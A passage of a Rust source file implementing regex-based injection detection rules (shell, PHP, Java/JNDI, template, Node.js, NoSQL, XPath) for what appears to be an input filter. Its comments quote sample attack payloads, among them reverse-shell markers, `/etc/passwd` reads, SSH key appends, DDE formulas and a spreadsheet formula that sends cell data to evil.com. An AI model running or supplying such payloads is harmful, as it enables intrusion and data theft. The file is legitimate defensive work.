        r"(?:^|[;&|`(=]\s*|\s-[a-z]{1,2}\s+|\b(?:exec|sudo|doas|su|nohup|env|xargs|chsh\s+-s)\s+)/(?:usr/)?(?:local/)?s?bin/(?:ba|z|k|da|tc|c)?sh\b|\s/(?:usr/)?(?:local/)?s?bin/(?:ba|z|k|da|tc|c)?sh\s*(?:-[a-z]|\d*[<>|;&])|(?:^|[\s;&|`(=])/(?:usr/)?s?bin/[a-z]+\s+-|\bmkfifo\s+(?:-m\s*\d+\s+)?(?:[/~.$]|[\w.-]+\s*(?:[;&|]|$))|\bbash\s+-i\b",
    ),
    // A redirection right after a command separator (`;> /etc/passwd`, `&& >> ~/.ssh/x`)
    // empties or appends to a file with no command at all. A lone `&` is left out (`cmd &>
    // /dev/null` in a quoted snippet), and so is a line break (a Markdown quote is `> text`).
    rule(
        "rce-separator-redirect",
        Rce,
        5,
        Shell,
        r"(?:;|&&|\|\|?)\s*>{1,2}\s*(?:[/~]|\.\.?/)",
    )
    .outside_quoted_code(),
    // A mail server's command after a line break that opens the value (`%0d%0aRCPT TO:<x>`):
    // appended to a command an app sends over SMTP, IMAP or POP3, it becomes one of its own.
    // Commands with a syntax of their own count whatever follows; a bare word (`DATA`,
    // `QUIT`, `LIST 3`) only as the value's one line, since pasted text may open with a blank
    // line and a heading.
    rule(
        "rce-mail-command",
        Rce,
        5,
        Plain,
        r"^[\r\n]+[ \t]*(?:mail[ \t]+from[ \t]*:|rcpt[ \t]+to[ \t]*:|(?:ehlo|helo)[ \t]+[a-z0-9.-]+\.[a-z]|(?:vrfy|expn)[ \t]+[!-~]|(?:retr|dele)[ \t]+[0-9]|top[ \t]+[0-9]+[ \t]+[0-9]|[a-z]{0,3}[0-9]{1,4}[ \t]+(?:login|select|examine|fetch|search|status|store|copy|list|lsub|create|delete|rename|append|uid|capability|logout|noop|quit|authenticate)\b|(?:data|quit|rset|noop|stat|uidl|starttls|list[ \t]+[0-9]+)[ \t]*[\r\n]*$)",
    ),
    // A reverse shell has no business in any text, code quoted in prose included: read in
    // the plain form too, which keeps that code. (Its parts with a use of their own, a named
    // pipe or an interactive shell, count outside quoted code only, above.)
    rule_in(
        "rce-reverse-shell",
        Rce,
        5,
        &[Plain, Shell],
        r"/dev/(?:tcp|udp)/|\bsocat\b.*\bexec:|\bnc(?:at)?\b(?:\s+-\w+)*\s+\S+\s+\d+\s+-e\b|\bnc(?:at)?\s+(?:-\w+\s+)*-e\s*(?:/(?:usr/)?bin/)?(?:ba)?sh\b",
    ),
    // The field separator as a space a filter does not see (`cat$IFS/etc/passwd`,
    // `;${IFS}cat`, `sleep${IFS}5`): glued to the argument after it. Prose about the shell
    // names it between spaces ("when $IFS is empty", "`${IFS:=value}`").
    rule(
        "rce-ifs",
        Rce,
        5,
        Plain,
        r"\$\{?ifs\}?(?:\$\{?[a-z0-9_]|[a-z0-9_/\\-])",
    ),
    // A command named through glob wildcards right after a separator or at the value's start
    // (`;/???/??t /???/p??s??`, `|/b?n/c?t`, `/bin/c?t /e??/p?ss??`, `;/usr/bin/wh?ami`). A
    // question mark that ends the value's last word is a question's, not a glob.
    rule(
        "rce-glob-command",
        Rce,
        5,
        Shell,
        r"(?:^|[;&|`\n]|\$\()[ \t]*(?:/[a-z0-9_.-]*)*/[a-z0-9_.-]*[?*\[][a-z0-9_.?*\[\]-]*(?:/|\s+[-/~]|[a-z0-9_-]\s*(?:$|[;&|`]))",
    ),
    // The command syntax of Ruby (`%x(ls -al /)`, `Process.spawn("id")`) and Perl
    // (`qx{id}`), and Perl's code interpolation (`@{[ system 'id' ]}`, `@{[rand 100]}`: code
    // run inside a string, which nothing but Perl writes), for apps that pass input to either.
    rule(
        "rce-script-command",
        Rce,
        5,
        Plain,
        r#"(?:%x|\bqx)\s*[({\[/|]\s*['"]?\s*(?:ls|id|cat|whoami|uname|touch|wget|curl|sh|bash|rm|echo|ping|nc|python|perl)\b|@+\{\s*\[|\b(?:process\.spawn|kernel\.(?:exec|system|spawn)|io\.popen|open3\.\w+)\s*\(\s*['"]"#,
    ),
    rule(
        "rce-shell-expansion",
        Rce,
        4,
        Plain,
        r"\$\(\(|\$\[[^\]]*\]|(?:^|[\s;&|])[<>]\(\s*[a-z]+\b|\$\{[a-z_]+#",
    ),
    rule(
        "rce-windows",
        Rce,
        5,
        Shell,
        r#"\bfor\s+(?:/[dlrf]\b[^%()]{0,100})?%%?~?(?:[a-z_][a-z0-9_]{0,30}|[-/@\[\]~0-9])?\s+in\s*\(|\b(?:invoke-(?:webrequest|expression|restmethod|wmimethod|command|item)|start-process|set-executionpolicy|get-wmiobject)(?:\s+(?:[-$'"({@\\]|[a-z]+://|[a-z]:\\|bypass\b|unrestricted\b|[\w.-]+\.(?:exe|ps1|bat|cmd)\b)|\s*[({])|\|\s*invoke-expression\b|\bnew-object\s+(?:system\.)?net\.webclient\b|\.download(?:string|file)\s*\(|\bcmd(?:\.exe)?\s+/[ckr]\b|\bpowershell(?:\.exe)?\s+(?:-|/)(?:e|enc|encodedcommand|c|command|nop|noprofile|w|windowstyle|exec|ep)\b|\b(?:certutil|bitsadmin)(?:\.exe)?\s+[-/]|\b(?:rundll32|regsvr32|mshta)(?:\.exe)?\s|(?:^|[;&|`])\s*net(?:\.exe)?\s+(?:user|localgroup|group|share|use)\b(?:\s*$|(?:\s+[^\s;&|/]+){0,4}\s*/(?:add|delete|del|domain|active|grant)\b|\s+/)|\breg(?:\.exe)?\s+(?:query|add|delete|save|export|load)\s+(?:hk(?:lm|cu|cr|u|cc)|hkey_)|(?:^|[;&|`])\s*(?:get-(?:childitem|content|process|service|localuser|acl|itemproperty)|remove-item|set-content|out-file|copy-item)\s+(?:-|[a-z]:|\$|/|\\|~)|\bwmic\s+(?:process|os|useraccount)\b|\biex\s*\(\s*(?:iwr|irm|curl|wget|new-object|invoke-|\[|\$|\()|(?:^|[;&|`])\s*iex\s+\$"#,
    ),
    // A spreadsheet formula that runs a program through DDE when the app's CSV export is
    // opened: `=cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `=DDE("cmd";"/C calc";"!A0")`.
    rule(
        "rce-spreadsheet-dde",
        Rce,
        5,
        Plain,
        r"[a-z0-9]\|\s*'[^'\n]*'\s*!|(?:^|[=+@-])\s*dde(?:auto)?\s*\(|^\s*ddeauto\b",
    ),
    // .NET's process, file and assembly classes reached from a PowerShell type literal
    // (`[System.Diagnostics.Process]::Start('calc')`) or a Razor template expression
    // (`@(System.Diagnostics.Process.Start("cmd.exe"))`, `@{ … }`). The class named in prose or
    // in a C# question (`System.IO.File.ReadAllText`) is no call.
    rule(
        "rce-dotnet-process",
        Rce,
        5,
        Plain,
        r"\[\s*(?:system\s*\.\s*)?(?:diagnostics\s*\.\s*process(?:startinfo)?|reflection\s*\.\s*assembly|runtime\s*\.\s*interopservices\s*\.\s*marshal)\s*\]\s*::|@[({]?\s*(?:new\s+)?system\s*\.\s*(?:diagnostics\s*\.\s*process|io\s*\.\s*(?:file|directory)|reflection\s*\.\s*assembly|net\s*\.\s*webclient|runtime\s*\.\s*interopservices)\b",
    ),
    // A spreadsheet formula that fetches a URL built from the sheet's cells as soon as the
    // app's CSV export is opened, which sends them along
    // (`=IMPORTXML(CONCAT("http://evil.com/?d=", A1), "//a")`, `=WEBSERVICE("http://…"&A1)`).
    // A formula that fetches a fixed URL leaks nothing; `HYPERLINK` waits for a click and
    // `IMPORTRANGE` for the owner's consent; a value that opens with `-` or `+` before
    // `image(` is a list item in prose.
    rule(
        "rce-spreadsheet-fetch",
        Rce,
        5,
        Plain,
        r"^\s*(?:[=+@-]\s*(?:[a-z]+\()*(?:importxml|importdata|importhtml|importfeed|webservice)|[=@]\s*(?:[a-z]+\()*image)\(\s*(?:concat(?:enate)?\(|[^)]*&)",
    ),
    // cmd.exe conditionals: `IF EXIST x (…)`, `IF %V% GEQ 2 …`, `IF a==b GOTO …`, a batch
    // variable compared (`if "%~1" == "%~2"`, `if [%1]==[/?]`, `if "!v!" == "x"`), and the
    // case-blind `/i` comparison only cmd.exe writes (`if /i a==b`). `if n%2==0` is Python.
    rule(
        "rce-windows-if",
        Rce,
        5,
        Shell,
        r"\bif\s*/i\s+(?:not\s+)?[\x21-\x3c\x3e-\x7e]{1,40}\s*==|\bif\s+(?:/i\s+)?(?:not\s+)?(?:[\[({]?(?:%~?\d|%[a-z_][a-z0-9_]{0,30}%|![a-z_][a-z0-9_]{0,30}!)[\])}]?\s*==|(?:exist|defined)\s+\S+\s+(?:\(|(?:cmd|echo|goto|set|call|exit|del|copy|type|start|rem)\b)|(?:errorlevel|cmdextversion)\s+\d|\(?\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S|\S+==\S*\s+\(?(?:cmd|echo|goto|set|call|exit|del|copy|type|start|rem|do)\b)",
    ),
    // A path whose name is hidden behind glob wildcards (`/???/c?t`, `/[e]tc/pa[s]swd`,
    // `/et*/*wd`): a signal, conclusive with a command before it. A star that is a whole
    // directory's name (`/home/*/.ssh`) or in the file's name (`/var/log/*.log`) is an
    // ordinary glob.
    rule(
        "rce-glob-path",
        Rce,
        4,
        Shell,
        r"(?:^|[\s;&|`(=<>])(?:/[\w.-]*)*/(?:[\w.-]*(?:\?+[\w.]*(?:[/\s?]|$)|\[[^\]\s]{1,12}\])|[\w.-]+\*[\w.*-]*/|\*[\w.-]+[\w.*-]*/)",
    ),
    rule(
        "rce-shell-variable",
        Rce,
        5,
        Plain,
        r"\$\{?(?:shell|bash|0)\}?\s+-c\b",
    ),
    rule(
        "rce-shellshock",
        Rce,
        5,
        Plain,
        r"\(\s*\)\s*\{\s*(?::\s*;|[a-z_]+\s*;)?[^}]*\}\s*;|^\s*\(\s*\)\s*\{",
    ),
    // PHP code injection.
    rule(
        "php-open-tag",
        Php,
        5,
        Plain,
        r"<\?\s*php\b|<\?=|<\?\s+(?:echo|print|system|eval|exec|passthru|include|require|\$)",
    ),
    // A variable called as a function: `$a(1)`, `$$b(2)`, `@$__['o'](5)`.
    rule(
        "php-variable-function",
        Php,
        5,
        Plain,
        r"(?:^|[;@{])\s*@?\$+[a-z_]\w*(?:\[[^\]]*\])*\(",
    ),
    rule(
        "php-wrapper",
        Php,
        5,
        Plain,
        r"\b(?:php|phar|zlib|expect|zip|data)://",
    ),
    rule(
        "php-exec-function",
        Php,
        5,
        Plain,
        // A call with an argument that is code: a string, a variable or a decoder; or a value
        // that is nothing but an empty call, as scanners probe (`base64_decode()`). An empty
        // call among words is prose about code (`don't call eval() on user input`). A PHP
        // object's method of that name (`$pdo->exec('…')`) runs no command, and `readfile`
        // after a `.` is JavaScript's (`fs.readFile('x')`); Python's `os.system('id')` is one.
        concat!(
            r#"(?:^|[^\w>]|[^-]>)(?:"#,
            php_functions!(),
            r#")\s*\(\s*(?:['"`$]|base64_decode|gzinflate|str_rot13|chr\s*\()|(?:^|[^\w.>]|[^-]>)readfile\s*\(\s*['"`$]|^\s*(?:"#,
            php_functions!(),
            r#")\s*\(\s*\)\s*$|\b(?:include|require)(?:_once)?\s*\(?\s*['"](?:https?|ftp|php|data|expect|zip|phar)://"#,
        ),
    ),
    // The command functions called through a parenthesized name (`(system)(whoami)`,
    // `('system')('id')`), with a bare command word as the argument (`system(whoami)`, an
    // undefined constant PHP reads as its name), or named as the callback of a function that
    // calls it (`array_map('system', ['id'])`, `register_shutdown_function('passthru', 'id')`).
    // The parentheses touch, as code writes them and prose does not (`my system (id card)`);
    // a callback that is no command (`array_map('trim', $lines)`) is ordinary PHP.
    rule(
        "php-command-call",
        Php,
        5,
        Plain,
        concat!(
            r#"\(\s*['"]?\s*(?:"#,
            php_command_functions!(),
            r#"|assert|eval)\s*['"]?\s*\)\(|\b(?:"#,
            php_command_functions!(),
            r#")\(\s*(?:whoami|id|ls|pwd|uname|cat|wget|curl|nc|bash|sh|ping|dir)\b|\b(?:array_(?:map|filter|walk(?:_recursive)?|reduce)|u[ak]?sort|register_(?:shutdown|tick)_function|forward_static_call(?:_array)?|iterator_apply|preg_replace_callback|ob_start|set_(?:error|exception)_handler|spl_autoload_register)\s*\([^)]*['"]\s*(?:"#,
            php_command_functions!(),
            r#"|assert|eval)\s*['"]"#,
        ),
    ),
    rule(
        "php-superglobal",
        Php,
        5,
        Plain,
        r"\$_(?:get|post|request|cookie|server|files|env|session)\s*\[|\$globals\s*\[",
    ),
    rule(
        "php-object-injection",
        Php,
        5,
        Plain,
        r#"\b[oc]:\d+:"[a-z_\\][\w\\]*":\d+:\{"#,
    ),
    // Java: JNDI lookups (log4shell), reflection and expression languages, deserialization.
    rule(
        "java-jndi-lookup",
        Java,
        5,
        Lookup,
        r"\$\{\s*jndi\s*:|\bjndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)\s*:",
    ),
    // Apache Commons Text's interpolation (Text4Shell, CVE-2022-42889) runs a script, asks a
    // DNS server, fetches a URL or reads a file: `${script:javascript:…}`, `${dns:address|x}`,
    // `${url:UTF-8:http://…}`, `${file:UTF-8:/etc/passwd}`; its decoders exist in a value only
    // to hide one of those from a filter (`${base64Decoder:JHtzY3JpcHQ6…}`), as the
    // interpolation reads what they decode.
    rule(
        "java-text-interpolation",
        Java,
        5,
        Lookup,
        r"\$\{\s*(?:script\s*:\s*[a-z]+\s*:|dns\s*:[^}]*\||url\s*:\s*[\w-]+\s*:\s*[a-z]+:|file\s*:\s*[\w-]+\s*:|(?:base64|url)decoder\s*:)",
    ),
    rule(
        "java-log4j-lookup",
        Java,
        4,
        Lookup,
        r"\$\{\s*(?:env|sys|java|ctx|main|bundle|k8s|docker|spring|log4j|jvmrunargs|web|base64|sd|marker)\s*:[^}]*\}|\$\{::-",
    ),
    rule(
        "java-runtime-exec",
        Java,
        5,
        Plain,
        r"\bjava\.lang\.(?:runtime|processbuilder|reflect\b|classloader|system\s*\.\s*(?:exit|getenv|setproperty))|\bruntime\s*\.\s*getruntime\s*\(\s*\)\s*\.\s*(?:exec|load|loadlibrary|halt|exit)\b|\bnew\s+processbuilder\s*\(|\bclass\s*\.\s*forname\s*\(\s*['\x22]?\s*(?:java\.lang\.|javax\.(?:script|naming|management)\.|java\.beans\.|(?:com\.)?sun\.|org\.apache\.(?:commons|xalan|tomcat|catalina)\.)|\.getclass\s*\(\s*\)\s*\.\s*(?:forname|getclassloader|getmethod|getdeclared)|\bjavax\.script\.scriptenginemanager\b|\bjava\.beans\.xmldecoder\b|\bclass\.module\.classloader\b",
    ),
    rule(
        "java-gadget-class",
        Java,
        5,
        Plain,
        r"\b(?:java\.)?processbuilder\.|\bjava\.(?:runtime|processbuilder)\b|\b(?:invokertransformer|instantiatetransformer|chainedtransformer|constanttransformer|clonetransformer|instantiatefactory|prototypeclonefactory|prototypeserializationfactory|forclosure|whileclosure|templatesimpl|annotationinvocationhandler|badattributevalueexpexception|jdbcrowsetimpl|methodclosure|convertedclosure|beancomparator|wrapperconnectionpooldatasource|nativejavaobject|bsh\.interpreter)\b",
    ),
    rule(
        "java-expression-language",
        Java,
        5,
        Plain,
        r"[$#%]\{\s*(?:#[a-z_][a-z0-9_]*\s*(?:[=.(,?:]|\[\s*['\x22])|@[a-z_$]|t\s*\(\s*java\.|new\s+java\.|''\.getclass|\(#)|#_memberaccess|@java\.lang\.|#context\s*\[|[$#]\{[^}]*\b(?:(?:getclass|getclassloader|getresource|forname|getruntime|getmethod|getdeclaredmethod|newinstance|invoke)\s*\(|class\s*\.\s*classloader\b)",
    ),
    rule(
        "java-serialized-object",
        Java,
        5,
        Plain,
        r"(?:^|[\s=:])(?:ro0ab|aced0005)|\borg\.apache\.commons\.collections\d*\.functors\b|\bcom\.sun\.org\.apache\.xalan\.internal\.xsltc\.trax\b|\bysoserial\b",
    ),
    // Server-side template injection.
    // Server-side includes, `<!--#exec cmd="id" -->`, and their CDN form, Edge Side
    // Includes, which a cache in front of the app runs (`<esi:include src="http://…"/>`,
    // `<esi:vars>$(HTTP_COOKIE)</esi:vars>`): an element with what it acts on, not its name.
    rule(
        "ssti-ssi-directive",
        Ssti,
        5,
        Plain,
        r"<!--\s*#\s*(?:exec|include|echo|config|set|printenv|fsize|flastmod|if)\b|<\s*esi\s*:\s*[a-z]+\s+(?:src|alt|name|test|value)\s*=|<\s*esi\s*:\s*vars\s*>[^<]*\$\(",
    ),
    rule(
        "ssti-arithmetic-probe",
        Ssti,
        5,
        Plain,
        r#"(?:\{\{=?|\$\{\{?|#\{|\{%|<%=?|\[\[|\*\{|@\(|\{\$)\s*(?:-?\d+|'\d+'|"\d+")\s*[*+/-]\s*(?:-?\d+|'\d+'|"\d+")\s*(?:\}\}?|%[>}]|\]\]|\))"#,
    ),
    // Python's object graph walked to a module or a builtin, as template and `eval`
    // injections do: a dunder inside template braces, a class's bases or MRO, the list of
    // subclasses indexed, a function's globals or the builtins looked up by name. Code that
    // reads a class's MRO or subclasses, or tests for `__builtins__`, does none of that.
    rule(
        "ssti-python-internals",
        Ssti,
        5,
        Plain,
        r"(?:\{\{|\{%|\$\{|#\{)[^}]*__[a-z]+__|__(?:class|base)__\s*\.\s*__(?:mro|subclasses|bases|base)__|__subclasses__\s*\(\s*\)\s*\[|__globals__\s*(?:\[\s*['\x22]|\.\s*(?:get|__getitem__)\s*\(|\.\s*__builtins__)|__builtins__['\x22]?\s*\]?\s*(?:\[\s*['\x22]|\.\s*)(?:__import__|eval|exec|open|compile|getattr)\b|__import__\s*\(\s*['\x22](?:os|subprocess)|\b(?:eval|exec)\s*\(\s*compile\s*\(",
    ),
    // A Ruby template expression (ERB's `<%= %>`, an interpolation `#{}`) that reads the file
    // system from its root, a home or a parent directory: `<%= File.read("/etc/passwd") %>`,
    // `<%= Dir.entries("/") %>`. A template reading a relative name (`#{File.read('a.yml')}`) is
    // what Ruby code in a question looks like.
    rule(
        "ssti-ruby-file-read",
        Ssti,
        5,
        Plain,
        r#"(?:<%=?|#\{)\s*(?:file|io|dir)\s*\.\s*(?:read|readlines|binread|foreach|entries|children|glob|open|new|write|delete)\s*\(\s*['"]\s*(?:/|\.\./|~|[a-z]:[\\/])"#,
    ),
    // Jinja's globals and filters that reach Python objects (`{{config.items()}}`,
    // `{{range.__init__}}`); Go's `{{range .Items}}`, a loop, is no such global.
    rule(
        "ssti-template-object",
        Ssti,
        5,
        Plain,
        r#"\{\{\s*(?:config|self|request|lipsum|cycler|joiner|namespace|url_for|get_flashed_messages)\s*(?:[.|\[(]|\}\})|\{\{\s*range(?:\.|\s*(?:[|\[(]|\}\}))|\{\{\s*(?:''|""|\[\]|\(\))\s*[.|\[]|\|\s*attr\s*\(|<#assign\b|\?new\s*\(\s*\)|freemarker\.template\.utility|#set\s*\(\s*\$|\$class\.inspect|\{php\}|\{\{\s*_self\b|\bregisterundefinedfiltercallback\b|\{\{\s*[\w.]+\s*\|\s*(?:map|filter|reduce)\s*\(\s*['"]?(?:system|exec|shell_exec)"#,
    ),
    // Node.js / JavaScript injection and prototype pollution: the module that runs programs
    // loaded or called with a command, the file or VM module loaded and called in one
    // expression as a one-line payload does (`require('fs').readFileSync('/etc/passwd')`),
    // the main module reached, the process ended or its bindings taken where a script is
    // injected (`';process.exit();//`). The API named in a question or in documentation
    // (`child_process.spawn()`, `` `process.exit()` ``, `const fs = require('fs');`) is not.
    rule(
        "node-code-injection",
        Ssti,
        5,
        Plain,
        r#"\brequire\s*\(\s*['"`](?:node:)?child_process['"`]\s*\)|\brequire\s*\(\s*['"`](?:node:)?(?:fs['"`]\s*\)\s*\.\s*(?:read|write|append|unlink|rm|copy|rename|symlink|chmod|open)\w*|vm['"`]\s*\)\s*\.\s*(?:run|compile)\w*)\s*\(|\bimport\s*\(\s*['"`](?:node:)?child_process['"`]|\bchild_process\s*\.\s*(?:exec|spawn|fork)\w*\s*\(\s*['"`]|\bprocess\s*\.\s*mainmodule\b|(?:^|[;'"+(){}]\s*)process\s*\.\s*(?:binding|kill|exit)\s*\(|\bconstructor\s*(?:\.\s*constructor|\[\s*['"`]constructor)|\bthis\.constructor\.constructor\b|\bconstructor\s*\.\s*_load\b|_\$\$nd_func\$\$_|\$\w+:(?:\w+:)*(?:constructor|prototype|__proto__)\b"#,
    ),
    // A value that is an endless loop (`while(true);`, `while(!0)`, `for(;;)`) is code for an
    // `eval` on the server, which it stalls; prose puts a space before the parenthesis. A
    // condition that is plainly false (`while(!true)`, `while(false)`, `while(0)`) stalls
    // nothing.
    rule(
        "node-endless-loop",
        Ssti,
        5,
        Plain,
        r"^\s*(?:while\(+\s*(?:[^!f0\s)]|!\s*[^t\s]|!\s*t[^r]|f[^a]|0\s*[^)\s])|for\(\s*;\s*;\s*\))",
    ),
    rule(
        "node-prototype-pollution",
        Nosql,
        5,
        Plain,
        r"__proto__|\bconstructor\s*[.\[]\s*['\x22]?prototype\b|['\x22]constructor['\x22]\s*:\s*\{\s*['\x22]prototype['\x22]\s*:",
    ),
    // XPath injection: a quote that no quoted word opened closes a predicate and joins
    // another path to the query (`'] | //user/*[contains(*,'`), or adds a condition on the
    // document's structure, which only an attacker mapping an unseen XML document asks for
    // (`' and count(/*)=1 and '1'='1`, `') and starts-with(../password,'c`). An XPath
    // expression quoted whole closes a quoted word there (`//user[name='bob'] | //admin`).
    rule(
        "nosql-xpath-breakout",
        Nosql,
        5,
        Plain,
        r#"(?:^|[^'"\w])\w*['"]\s*\)?\s*(?:\]\s*\|\s*/|(?:and|or)\s+(?:count|name|local-name|string-length|substring|contains|starts-with|normalize-space|translate)\s*\(\s*(?:name\s*\(\s*)?(?:\.\./|/|@\*|child::|comment\(\)))"#,
    ),
    // NoSQL operator injection written into a value (keys are checked structurally).
    rule(
        "nosql-operator",
        Nosql,
        5,
        Plain,
        r#"\[\s*\$(?:ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|or|and|not|nor|expr|elemmatch|type|size|all|function|accumulator)\s*\]|\{\s*['"]?\$(?:ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|or|and|not|nor|expr|elemmatch|function|accumulator|lookup|unionwith|merge|out)['"]?\s*:|\$where\s*:|['"]\s*;\s*return\s+(?:true|1|this\.|db\.)"#,
    ),
];

/// The shell patterns, assembled around the lists of commands an attacker runs first: rarely
/// the word after a shell separator in prose, and only counted when followed by something
/// shaped like arguments.
mod shell_patterns {
    /// A shell separator, then a command (maybe behind a command that runs another: `time`,
    /// `nohup`, `sudo`), then something shaped like its arguments or a redirection into a
    /// path (`;echo x >> ~/.ssh/authorized_keys`). A pipe
    /// after the command counts only against it (`x|id|base64`): a command word between pipes
    /// with spaces around is a cell of a Markdown table (`| id | name |`), which chat messages
    /// hold all the time. (One pattern: a second copy of the command list for this made the
    /// regex set too large for its fast engine, and the filter 500 times slower.) A `)` counts
    /// only after a space: against the name it closes a regular-expression alternation
    /// (`.(cvs|git)ignore`), and `$(cmd)` is a substitution ([`SUBSTITUTION`]).
    pub(super) const SEPARATOR_COMMAND: &str = concat!(
        r"(?:[;&|\n`]|\$\(|\|\||&&)\s*(?:(?:time|nohup|strace|ltrace|nice|setsid|sudo|doas|env|exec|xargs|busybox|timeout\s+\d+[smhd]?)\s+)?(?:(?:/usr)?(?:/local)?/s?bin/)?(?:",
        "whoami|uname|ifconfig|ipconfig|netstat|wget|curl|lwp-download|nc|ncat|netcat|telnet|nmap|(?:ba)?sh|zsh|ksh|dash|csh|tcsh|powershell|pwsh|iex|iwr|irm|cmd|certutil|bitsadmin|nslookup|dig|chmod|chown|chattr|useradd|usermod|passwd|crontab|sudo|su|id|printenv|xxd|python[23]?|perl|ruby|php|node|lua|gcc|make|git|ssh|scp|rsync|ftp|tftp|openssl|ping|sleep|cat|tac|ls|dir|echo|head|tail|more|less|kill|pkill|killall|rm|rmdir|mkdir|ln|cp|mv|touch|env|nl|od|base64|awk|gawk|sed|grep|find|xargs|tar|gzip|bzip2|zip|unzip|timeout|mkfifo|socat|systeminfo|tasklist|net|reg|wmic|type|uptime|hostname|getent|ps|eval|exec|systemctl|service|shutdown|reboot",
        r")(?:\.exe)?(?:\s*$|\s*[;&<`#]|\s*>(?:[^=]|$)|\s+\)|\||\s+-{1,2}[a-z0-9]|\s+[/~]|\s+\.{1,2}/|\s+[a-z]+://|\s+\$|\s+\d+(?:\.\d+){0,3}\s*(?:$|[;&|`#])|\s+[\w.-]+\.(?:sh|py|pl|rb|exe|bat|ps1|php|txt|conf|log|gz|tgz|zip)\b|\s+[a-z]:(?:\\|\w|$)|\s+[\w.-]+@[\w.-]+|\s+@\d{1,3}(?:\.\d{1,3}){3}\b|\s+[\w-]+(?:\.[\w-]+)+\s*(?:$|[;&|`#])|\s+(?:[0-7]{3,4}|[ugoa]*[-+=][rwxst]+)\s+[/~]|\s+[^;&|\n<>]*>>?\s*[/~])",
    );

    /// `$(command ...)` or a backtick substitution that runs a command.
    pub(super) const SUBSTITUTION: &str = concat!(
        r"\$\(\s*(?:(?:/usr)?/s?bin/)?(?:",
        "whoami|uname|ifconfig|wget|curl|nc|ncat|bash|sh|zsh|cmd|powershell|id|cat|ls|echo|printf|sleep|ping|nslookup|base64|xxd|sed|awk|printenv|env|python[23]?|perl|ruby|php|hostname|head|tail|dig|host",
        // Short names that are also variables in jQuery code (`$(tr).find('td')`) count with
        // an argument or a redirection after them.
        r")\b|\$\(\s*(?:tr|od|rev|expr)(?:\s+[^)\s]|\s*<)|^`\s*(?:whoami|uname|id|ls|cat|sleep|ping|wget|curl|nslookup|echo)\b[^`]*`$",
    );
    /// A value that is itself a command line with arguments (weak alone).
    pub(super) const LEADING_COMMAND: &str = concat!(
        r"^\s*(?:(?:time|nohup|strace|ltrace|nice|setsid|sudo|doas|env|exec|xargs|busybox|timeout\s+\d+[smhd]?)\s+)?(?:",
        "whoami|uname|ifconfig|ipconfig|netstat|wget|curl|nc|ncat|netcat|telnet|bash|sh|zsh|powershell|cmd|certutil|nslookup|chmod|chown|sudo|printenv|python[23]?|perl|ruby|ping|cat|ls|echo",
        r")(?:\.exe)?(?:\s+-{1,2}[a-z]|\s+[/~]|\s+[a-z]+://|\s*<\s*[/~]|\s*$)",
    );
}

/// Forms whose texts are the same (the folds changed nothing) are scanned together, in one
/// pass of one set: these are the groups compiled for that, besides each form alone.
const SHARED_TEXT_GROUPS: [Forms; 4] = [
    Forms::PLAIN.with(Form::Sql),
    Forms::PLAIN.with(Form::Shell),
    Forms::PLAIN.with(Form::Sql).with(Form::Shell),
    Forms::of(Form::Sql).with(Form::Shell),
];

/// A set of forms, as a bit set.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Forms(u8);

impl Forms {
    pub const PLAIN: Forms = Forms::of(Form::Plain);

    pub const fn of(form: Form) -> Forms {
        Forms(1 << form as u8)
    }

    pub const fn with(self, form: Form) -> Forms {
        Forms(self.0 | 1 << form as u8)
    }

    fn contains(self, form: Form) -> bool {
        self.0 & (1 << form as u8) != 0
    }

    fn overlaps(self, forms: &[Form]) -> bool {
        forms.iter().any(|&form| self.contains(form))
    }
}

/// The most memory the lazy DFA of one set may hold per thread, for the states it builds as it
/// reads. The regex crate's default, 2 MiB, is too little for the sets that read prose: on
/// varied text (the 1,617 prompts of the corpus) the set shared by the plain, SQL and shell
/// forms filled it every 150 KB, threw its states away and rebuilt them, and after a few
/// rounds searched with its PikeVM instead: 130 ns a byte instead of 10. With 8 MiB it never
/// fills on that corpus (`no_rule_set_outgrows_the_lazy_dfa_cache`), and reading every corpus
/// value once went from 151 to 93 ns a byte (`filter_worst`). A set holds only the states it
/// has needed, at most this much per worker thread: after that corpus, 4.7 MiB for the shared
/// set and 16 MiB for all nine.
const LAZY_DFA_CACHE_BYTES: usize = 8 << 20;

/// The rules of a group of forms, compiled into one set.
struct GroupRules {
    forms: Forms,
    set: RegexSet,
    /// Per pattern of the set: its rule's index in [`RULES`].
    rules: Vec<usize>,
}

/// All pattern rules, compiled once at start.
pub struct PatternRules {
    groups: Vec<GroupRules>,
    /// Per rule of [`RULES`]: the regex that finds the fragment for the log.
    finders: Vec<Regex>,
}

/// A rule that matched, with the matched byte range of the form's text.
pub struct PatternHit {
    pub rule: &'static Rule,
    pub start: usize,
    pub end: usize,
}

impl PatternRules {
    pub fn compile() -> Self {
        let single = [
            Form::Plain,
            Form::Sql,
            Form::Shell,
            Form::Lookup,
            Form::Markup,
        ]
        .map(Forms::of);
        let groups = single
            .into_iter()
            .chain(SHARED_TEXT_GROUPS)
            .map(|forms| {
                let rules: Vec<usize> = (0..RULES.len())
                    .filter(|&i| forms.overlaps(RULES[i].forms))
                    .collect();
                let set = RegexSetBuilder::new(
                    rules
                        .iter()
                        .map(|&i| ascii_word_boundaries(RULES[i].pattern)),
                )
                .dfa_size_limit(LAZY_DFA_CACHE_BYTES)
                .build()
                .expect("the built-in rules compile");
                GroupRules { forms, set, rules }
            })
            .collect();
        let finders = RULES.iter().map(|r| compile(r.id, r.pattern)).collect();
        Self { groups, finders }
    }

    /// Rules of `forms` that match `text`, skipping disabled families. Forms without a
    /// compiled group of their own are scanned one by one.
    pub fn scan(
        &self,
        forms: Forms,
        text: &str,
        enabled: impl Fn(Family) -> bool,
        hits: &mut Vec<PatternHit>,
    ) {
        match self.groups.iter().find(|g| g.forms == forms) {
            Some(group) => self.scan_group(group, text, &enabled, hits),
            None => {
                for group in self
                    .groups
                    .iter()
                    .filter(|g| g.forms.0.count_ones() == 1 && forms.0 & g.forms.0 != 0)
                {
                    self.scan_group(group, text, &enabled, hits);
                }
            }
        }
    }

    /// Whether rule `index` matches `text` outside the code `text` quotes, when `text` is prose
    /// quoting code; whether it matches at all otherwise.
    fn matches_outside_quoted_code(&self, index: usize, text: &str) -> bool {
        match super::quoted_code::without_quoted_code(text) {
            Some(prose) => self.finders[index].is_match(&prose),
            None => true,
        }
